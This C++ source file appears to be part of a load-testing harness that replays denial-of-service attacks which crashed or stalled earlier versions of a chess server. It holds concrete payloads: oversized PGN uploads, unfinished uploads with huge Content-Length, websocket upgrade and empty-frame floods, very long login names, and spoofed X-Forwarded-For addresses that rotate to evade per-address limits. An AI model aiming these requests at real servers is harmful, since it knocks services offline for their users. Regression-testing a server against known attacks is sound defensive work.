// Attacks on earlier versions. Each froze, filled or ended the server.
#include <memory>

#include "server_load/attacks.hpp"
#include "server_load/packed_file.hpp"

namespace tabiya::load {
namespace {

using namespace std::chrono_literals;

using Request = std::function<std::string()>;

constexpr std::size_t body_bytes = 500'000;
constexpr std::size_t small_file_bytes = 100'000'000;

std::string repeated(std::string_view unit, std::size_t bytes) {
  std::string text;
  while (text.size() + unit.size() <= bytes) text += unit;
  return text;
}

Request always(std::string text) {
  return [text = std::move(text)] { return text; };
}

/// Sends the texts in turn.
Request in_turn(std::vector<std::string> texts) {
  return [texts = std::move(texts), next = std::make_shared<std::size_t>(0)] {
    return texts[(*next)++ % texts.size()];
  };
}

/// Sends a text with a different number each time.
Request numbered(std::function<std::string(std::size_t)> text) {
  return
      [text = std::move(text), next = std::make_shared<std::size_t>(0)] { return text((*next)++); };
}

Request reading_of_files(const AttackerAssets& assets) {
  std::vector<std::string> requests;
  for (const std::string& file : assets.files) {
    const std::string path = "/api/tabiya/pgn/" + file;
    for (const std::string& part :
         {std::string{}, std::string{"/game/1"}, std::string{"/game/1.pgn"}}) {
      requests.push_back(request_text("GET", path + part, assets.session));
    }
    requests.push_back(request_text("GET", path + "?filter=zzz&from=1000000", assets.session));
  }
  if (requests.empty())
    requests.push_back(request_text("GET", "/api/tabiya/pgn/kasparov", assets.session));
  return in_turn(std::move(requests));
}

std::string many_tags() {
  std::string body = "pgn=";
  for (int number = 0; body.size() < body_bytes - 16; ++number) {
    body += "[t" + std::to_string(number) + "\"\"]";
  }
  return body;
}

std::string upgrade(const AttackerAssets& assets) {
  return request_text(
      "GET", "/api/tabiya/socket",
      assets.session +
          "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
          "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n");
}

/// Pings and empty continuation frames. Source: RFC 6455, 5.2.
std::string upgrade_and_frames(const AttackerAssets& assets) {
  const std::string ping{"\x89\x80\0\0\0\0", 6};
  const std::string begin{"\x01\x80\0\0\0\0", 6};
  const std::string continuation{"\x00\x80\0\0\0\0", 6};
  return upgrade(assets) + repeated(ping, 60'000) + begin + repeated(continuation, 600'000);
}

/// The head of an upload and part of its body, which is never completed.
std::string unfinished_upload(const Credential& credential) {
  return "POST /api/tabiya/pgn HTTP/1.1\r\nHost: tabiya\r\n" + credential +
         "Content-Length: 250000000\r\n\r\n" + repeated("1. e4 *\n\n", 4'000'000);
}

std::string posted(const AttackerAssets& assets, std::string_view target, std::string_view body) {
  return request_text("POST", target, assets.credential, body);
}

}  // namespace

std::vector<Attack> attacks_that_got_through(const AttackerAssets& assets) {
  const Request long_names = numbered([](std::size_t number) {
    return request_text(
        "POST", "/api/tabiya/login", "Origin: http://tabiya\r\n",
        "password=wrong&username=" + repeated("a", body_bytes - 100) + std::to_string(number));
  });
  const Request one_network = numbered([](std::size_t number) {
    return request_text("GET", "/api/tabiya/session",
                        "X-Forwarded-For: 2001:db8::" + std::to_string(number % 10'000) + "\r\n");
  });
  const std::string level_eight = posted(assets, "/api/challenge/ai", "level=8&color=black");
  const std::string guest_and_computer =
      request_text("POST", "/api/tabiya/game", "Origin: http://tabiya\r\n", "level=8&color=black");
  return {
      {.name = "C1 games that are enormous trees, comments or lists of faults",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = reading_of_files(assets), .pause = 100ms}},
      {.name = "C1 bringing such files",
       .clients = 5,
       .addresses = 20,
       .plan = {.request = always(
                    request_text("POST", "/api/tabiya/pgn", assets.session,
                                 packed("[Event \"z\"]\n\n1. e4 ", "(1. d4)", small_file_bytes))),
                .pause = 200ms}},
      {.name = "C2 70,000 tags in one import",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = always(posted(assets, "/api/import", many_tags()))}},
      {.name = "C3 half a million empty names",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = always(
                    request_text("POST", "/api/stream/games-by-users", {}, repeated(",", 510'000))),
                .closes_his_side = true}},
      {.name = "C4 names that are not UTF-8",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = in_turn(
                    {posted(assets, "/api/challenge/" + assets.user, "name=%ff%fe"),
                     posted(assets, "/api/challenge/open", "name=%ff%fe"),
                     posted(assets, "/api/board/game/" + assets.game + "/chat",
                            "room=player&text=Gr%fcnfeld"),
                     posted(assets, "/api/import", "pgn=[White \"Gr\xfcnfeld\"] 1. e4 *")})}},
      {.name = "H1 sockets",
       .clients = 2000,
       .addresses = 2,
       .plan = {.request = always(upgrade(assets)), .pause = 10ms}},
      {.name = "H1 frames without content",
       .clients = 10,
       .addresses = 10,
       .plan = {.request = always(upgrade_and_frames(assets)), .pause = 10ms}},
      {.name = "H2 unfinished uploads",
       .clients = 200,
       .addresses = 2,
       .plan = {.request = in_turn({unfinished_upload({}), unfinished_upload(assets.session)}),
                .bytes_at_once = 100'000,
                .pause = 100ms}},
      {.name = "H3 logging in with long names",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = long_names}},
      {.name = "H7 correspondence seeks",
       .clients = 10,
       .addresses = 100,
       .plan = {.request = in_turn({posted(assets, "/api/board/seek", "days=14&rated=false"),
                                    posted(assets, "/api/board/seek", "days=7&rated=false")}),
                .pause = 10ms}},
      {.name = "H8 games with computers of level 8",
       .clients = 20,
       .addresses = 100,
       .plan = {.request = in_turn({level_eight, guest_and_computer}), .pause = 50ms}},
      {.name = "H9 one file read by many",
       .clients = 50,
       .addresses = 100,
       .plan = {.request = reading_of_files(assets), .pause = 10ms, .closes_his_side = true}},
      {.name = "H10 one network of IPv6",
       .clients = 50,
       .is_behind_proxy = true,
       .plan = {.request = one_network}},
  };
}

}  // namespace tabiya::load
